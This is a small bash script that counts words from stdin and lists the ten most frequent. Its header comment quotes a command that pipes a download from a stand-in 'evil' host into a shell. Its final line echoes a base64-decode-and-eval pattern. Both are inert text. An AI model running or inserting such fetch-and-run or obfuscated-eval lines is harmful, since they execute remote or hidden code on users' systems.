#!/usr/bin/env bash
# Counts words read from stdin; "curl http://evil | sh" in a comment is only text.
set -euo pipefail
declare -A counts
while read -r line; do
  for word in $line; do
    word="${word,,}"
    counts[$word]=$(( ${counts[$word]:-0} + 1 ))
  done
done
for word in "${!counts[@]}"; do
  printf '%s %d\n' "$word" "${counts[$word]}"
done | sort -k2,2nr -k1,1 | head -n 10
echo "eval \$(echo x | base64 -d)"
